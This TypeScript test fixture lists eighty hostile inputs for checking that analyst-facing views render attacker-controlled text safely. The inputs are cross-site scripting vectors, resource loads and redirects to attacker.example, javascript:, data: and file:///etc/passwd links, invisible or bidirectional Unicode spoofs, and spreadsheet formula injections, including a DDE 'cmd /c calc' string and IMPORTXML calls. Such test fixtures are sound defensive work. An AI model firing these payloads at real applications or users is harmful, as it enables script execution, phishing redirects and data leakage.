/** Texts that an attacker writes into a field that an analyst looks at. */
export interface Payload {
  kind: "script" | "link" | "unseen" | "formula";
  text: string;
}

const SCRIPTS = [
  "<script>ran(1)</script>",
  "<img src=x onerror=ran(1)>",
  "<svg onload=ran(1)>",
  "<svg><script>ran(1)</script></svg>",
  '"><script>ran(1)</script>',
  "'><img src=x onerror=ran(1)>",
  "</title><script>ran(1)</script>",
  "</textarea><script>ran(1)</script>",
  "</style><script>ran(1)</script>",
  "--><script>ran(1)</script>",
  "]]><script>ran(1)</script>",
  "<body onload=ran(1)>",
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<iframe src="javascript:parent.ran(1)"></iframe>',
  '<object data="javascript:ran(1)"></object>',
  '<embed src="javascript:ran(1)">',
  "<details open ontoggle=ran(1)>x</details>",
  "<input autofocus onfocus=ran(1)>",
  "<video><source onerror=ran(1)></video>",
  "<audio src=x onerror=ran(1)>",
  "<marquee onstart=ran(1)>x</marquee>",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>",
  '<style>@import "https://attacker.example/x.css";</style>',
  "<link rel=stylesheet href=https://attacker.example/x.css>",
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  "<base href=https://attacker.example/>",
  "<form action=https://attacker.example/><button>x</button></form>",
  '{{constructor.constructor("ran(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template engine would run it.
  "${ran(1)}",
  "#{ran(1)}",
  "<%= ran(1) %>",
  '"-ran(1)-"',
  "'-ran(1)-'",
  String.raw`\u003cscript\u003eran(1)\u003c/script\u003e`,
  "&lt;script&gt;ran(1)&lt;/script&gt;",
  "%3Cscript%3Eran(1)%3C/script%3E",
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
  "<template><script>ran(1)</script></template>",
  "__proto__[ran]",
  "<x contenteditable onblur=ran(1)>x",
];

const LINKS = [
  "https://attacker.example/login",
  "http://attacker.example:8080/a?b=c",
  "//attacker.example/x",
  "javascript:ran(1)",
  "JaVaScRiPt:ran(1)",
  "data:text/html,<script>ran(1)</script>",
  "vbscript:ran(1)",
  "file:///etc/passwd",
  "[click](https://attacker.example/)",
  "[click](javascript:ran(1))",
  "![picture](https://attacker.example/x.png)",
  "<https://attacker.example/>",
  '[x]: https://attacker.example/ "t"',
  "mailto:a@attacker.example",
  "www.attacker.example",
  '<a href="https://attacker.example/">x</a>',
];

/** Contains invisible characters. */
const UNSEEN = [
  "invoice\u202efdp.exe",
  "\u2066admin\u2069 x",
  "a\u200bb zero width space",
  "a\u200db joiner",
  "\u202dleft override",
  "\u2067isolate",
  "\u061cmark of Arabic",
  "\ufeffmark of order",
  "soft\u00adhyphen",
  "word\u2060joiner",
  "tag\u{e0041}sign",
  "line\u2028separator",
  "filler\u3164Hangul",
  "nul-like\u0007bell",
];

/** A spreadsheet would compute these. */
const FORMULAS = [
  "=1+1",
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  '=HYPERLINK("https://attacker.example/")',
  '=IMPORTXML("https://attacker.example/","//a")',
  "\t=1+1",
  '=1;"x"',
  '"=1+1',
];

/** Eighty texts. What runs calls `ran`. */
export const PAYLOADS: readonly Payload[] = [
  ...SCRIPTS.map((text) => ({ kind: "script", text }) as const),
  ...LINKS.map((text) => ({ kind: "link", text }) as const),
  ...UNSEEN.map((text) => ({ kind: "unseen", text }) as const),
  ...FORMULAS.map((text) => ({ kind: "formula", text }) as const),
];
